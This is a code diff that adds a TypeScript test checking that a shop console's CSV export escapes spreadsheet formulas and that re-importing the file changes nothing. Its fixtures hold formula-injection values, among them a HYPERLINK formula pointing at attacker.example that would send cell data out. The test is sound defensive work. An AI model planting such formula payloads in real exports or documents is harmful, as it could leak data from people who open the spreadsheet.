@@ -1,12 +1,13 @@
 import assert from 'node:assert/strict';
 import { describe, it } from 'node:test';
+import { parse } from 'csv-parse/sync';
 import type { BulkPreview, ConsoleError, Upload } from '../../src/console/console-api.ts';
 import type { Product } from '../../src/products/record/product.ts';
 import { allProducts, draft, importDrafts } from '../support/catalog.ts';
 import { type ConsoleClient, signedIn } from '../support/console.ts';
 import { forEachEngine } from '../support/engines.ts';
 import { type TestMerchant, useService } from '../support/service.ts';
-import { untilState } from '../support/uploads.ts';
+import { checkFile, importFile, untilState } from '../support/uploads.ts';
 
 const variation = (identifier: string, quantity: number | null, deletedAt: string | null = null) => ({
   identifier,
@@ -182,6 +183,30 @@ forEachEngine((engine) => {
       assert.deepEqual(new Set(lines.slice(1).map((line) => line.split(',')[0])), new Set(['A', 'B']));
       const all = (await console.get('/products/export.csv')).text;
       assert.ok(all.includes('Glass') && !all.includes('Clay lamp'));
+    });
+
+    it('exports CSV without a formula for spreadsheets, and an upload of the file changes nothing', async () => {
+      service().passTime(60_000);
+      const { merchant, console, products } = await newShop();
+      await importDrafts(service(), merchant, [
+        [
+          draft('-E', { title: '=HYPERLINK("https://attacker.example?"&A2;"Details")', brand: "'=1" }, [
+            { identifier: '-1', size: '@SUM(A1)', color: '-5' },
+          ]),
+          draft('F', { description: 'Care:\n- wash\n- "=dry"; =1+1', category: '+x | -y', brand: '\t=1' }),
+        ],
+      ]);
+      const before = await products();
+      const file = (await console.get('/products/export.csv')).text;
+      const cells: string[][] = parse(file);
+      for (const cell of cells.flat()) assert.match(cell, /^([^=+@\t\r-]|$|-\d$)/);
+      assert.ok(file.includes(`'=HYPERLINK(""https://attacker.example?""&A2;""Details"")`), file);
+      assert.ok(file.includes('Care:\n\'- wash\n\'- ""\'=dry""; \'=1+1'), file);
+      assert.deepEqual((await checkFile(console, 'products.csv', file)).ignored_columns, []);
+      const { summary, rejections } = await importFile(console, 'products.csv', file);
+      assert.deepEqual(rejections, []);
+      assert.equal(summary?.unchanged, 5);
+      assert.deepEqual(await products(), before);
     });
   });
 });
